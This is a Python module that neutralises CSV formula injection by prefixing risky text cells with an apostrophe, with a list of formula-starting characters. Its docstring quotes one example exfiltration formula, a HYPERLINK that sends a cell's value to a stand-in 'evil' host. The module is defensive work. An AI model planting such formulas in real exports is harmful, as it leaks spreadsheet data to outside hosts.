"""The formula guard every CSV the project writes goes through.

A spreadsheet opening a CSV runs a text cell that starts with ``=``, ``+``, ``-``, ``@``,
tab or carriage return as a formula (``=HYPERLINK("http://evil/?"&A1, "click")``);
feature, group and category names come from the data, so a hostile one would reach the
analyst's spreadsheet. :func:`neutralise` prefixes such a cell with ``'``, which the
spreadsheet shows as text; numbers are written from numeric values and never changed.
Used by the metrics export (:mod:`monitors.export`) and the report CSV
(:mod:`monitors.reports.render`). Standard library only.
"""

from __future__ import annotations

from typing import Any, Final

__all__ = ["FORMULA_PREFIXES", "neutralise", "neutralise_value"]

#: A text cell starting with one of these is prefixed with ``'``.
FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """``cell`` with a leading ``'`` if a spreadsheet would read it as a formula.

    Applied to text cells only; numbers are written from numeric values and never
    changed (``-0.25`` stays a number), so a negative number is never mistaken for
    a formula, while the text ``-1+2`` from the data becomes ``'-1+2``.

    Examples
    --------
    >>> neutralise("=HYPERLINK(1)"), neutralise("sex=F")
    ("'=HYPERLINK(1)", 'sex=F')
    """
    return "'" + cell if cell.startswith(FORMULA_PREFIXES) else cell


def neutralise_value(value: Any) -> Any:
    """:func:`neutralise` for a text value; any other value (number, ``None``) unchanged."""
    return neutralise(value) if isinstance(value, str) else value
